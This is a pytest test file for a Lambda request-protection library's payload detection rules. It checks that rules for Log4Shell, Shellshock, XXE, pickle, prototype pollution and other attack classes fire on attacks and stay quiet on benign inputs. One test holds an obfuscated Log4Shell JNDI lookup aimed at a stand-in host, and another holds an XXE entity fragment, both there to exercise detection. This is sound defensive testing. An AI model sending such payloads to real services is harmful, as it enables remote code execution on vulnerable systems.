"""The shipped payload rules, row by row: each catches its attacks (obfuscated forms included) and the pack
leaves every benign near-miss alone. Rules run through the engine on events built as API Gateway sends them."""
from __future__ import annotations

import re
from collections.abc import Iterator
from typing import Any

import pytest

from app_protect_lambda.checks import payload_rules
from app_protect_lambda.checks.payload import Engine, Subjects
from app_protect_lambda.context import RequestContext
from app_protect_lambda.policy import Mode, Policy
from app_protect_lambda.testing import LambdaContext
from tests.payload_rows import ATTACKS, BENIGN, GATED


@pytest.fixture(autouse=True)
def fresh_versions() -> Iterator[None]:
    payload_rules.forget_versions()
    yield
    payload_rules.forget_versions()


def triggered(event: dict[str, Any]) -> dict[str, tuple[str, str]]:
    """rule id -> (input location, matched fragment), for every shipped rule the event triggers."""
    engine = Engine([(rule, Mode.REPORT) for rule in payload_rules.shipped()])
    found = engine.matches(Subjects(RequestContext(event, LambdaContext(), Policy())))
    return {rule.id: (item.location, fragment) for rule, _, item, fragment in found}


@pytest.mark.parametrize(("rule", "what", "event"), ATTACKS, ids=[f"{r}:{w}" for r, w, _ in ATTACKS])
def test_each_rule_catches_its_attacks(rule: str, what: str, event: dict[str, Any]) -> None:
    assert rule in triggered(event)


@pytest.mark.parametrize(("what", "event"), BENIGN, ids=[w for w, _ in BENIGN])
def test_benign_near_misses_trigger_no_rule(what: str, event: dict[str, Any]) -> None:
    assert triggered(event) == {}


@pytest.mark.parametrize(("rule", "version", "what", "event"), GATED, ids=[f"{r}:{w}" for r, _, w, _ in GATED])
def test_gated_rules_catch_only_where_an_affected_version_ships(rule: str, version: str, what: str,
                                                              event: dict[str, Any]) -> None:
    gate = next(item for item in payload_rules.shipped() if item.id == rule).applies_to
    assert gate is not None
    payload_rules._installed[gate.distribution] = version
    assert rule in triggered(event)
    payload_rules._installed[gate.distribution] = "99.0"
    assert rule not in triggered(event)
    payload_rules._installed[gate.distribution] = None  # not installed at all
    assert rule not in triggered(event)


def test_every_shipped_rule_has_attack_rows_and_a_benign_pack() -> None:
    covered = {rule for rule, _, _ in ATTACKS} | {rule for rule, _, _, _ in GATED}
    assert covered == {rule.id for rule in payload_rules.shipped()}
    obfuscated = {rule for rule, what, _ in ATTACKS + [(r, w, e) for r, _, w, e in GATED] if "obfuscated" in what}
    # Every class whose payloads have encodings or spellings of their own has an obfuscated row.
    assert obfuscated >= {"payload.log4shell", "payload.spring4shell", "payload.shellshock", "payload.ognl",
                          "payload.template-injection", "payload.xxe", "payload.php-serialized", "payload.pickle",
                          "payload.nosql-operator", "payload.prototype-pollution", "payload.crlf-injection",
                          "payload.xss", "payload.path-smuggling", "payload.protocol-smuggling",
                          "payload.pyyaml-python-tag"}


def test_a_finding_names_the_input_and_the_fragment() -> None:
    from tests.payload_rows import q

    found = triggered(q("${${lower:j}ndi:ldap://evil.example/a}", "name"))
    assert found["payload.log4shell"] == ("query.name", "${${")


def test_a_match_never_spans_two_inputs() -> None:
    from app_protect_lambda.testing import apigw_v1_event

    # Joined a line each, "<!entity x" and "system" are one declaration; each input alone holds none.
    event = apigw_v1_event(query={"a": ["<!ENTITY x", "SYSTEM 'y'"]})
    xxe = next(rule for rule in payload_rules.shipped() if rule.id == "payload.xxe")
    joined = Subjects(RequestContext(event, LambdaContext(), Policy())).text("query", xxe.transforms)
    assert re.search(xxe.pattern, joined)
    assert "payload.xxe" not in triggered(event)


def test_the_shipped_pack_is_valid_as_a_users_file_would_be() -> None:
    """The cold start skips the pattern checks for the shipped pack; here they run."""
    with open(payload_rules.SHIPPED, encoding="utf-8") as pack:
        checked = payload_rules.rules_from_text(pack.read(), "pack")
    assert [rule.id for rule in checked] == [rule.id for rule in payload_rules.shipped()]
    assert len(checked) >= 20


def test_the_packs_stated_literals_are_what_its_patterns_give() -> None:
    """The pack states each pattern's literals (a cold start does not parse 20 patterns); they must be the
    patterns' own, or the scan could skip a rule that matches."""
    from app_protect_lambda.checks.payload_regex import anchors

    for rule in payload_rules.shipped():
        if rule.regex is not None:
            assert rule.literals is not None, rule.id
            assert frozenset(rule.literals) == (anchors(rule.regex, lowercased="lowercase" in rule.transforms)
                                                or frozenset()), rule.id


def test_a_users_file_may_not_state_other_literals(tmp_path) -> None:
    path = tmp_path / "rules.yaml"
    path.write_text("version: 1\nrules:\n  - id: my.rule\n    name: mine\n    severity: low\n"
                    "    targets: [all]\n    regex: 'abc\\\\s{0,3}def'\n    literals: [zzz]\n")
    with pytest.raises(payload_rules.RuleError, match=r"line 8: rules\[0\].literals: the pattern's literals are"):
        payload_rules.load_file(str(path))
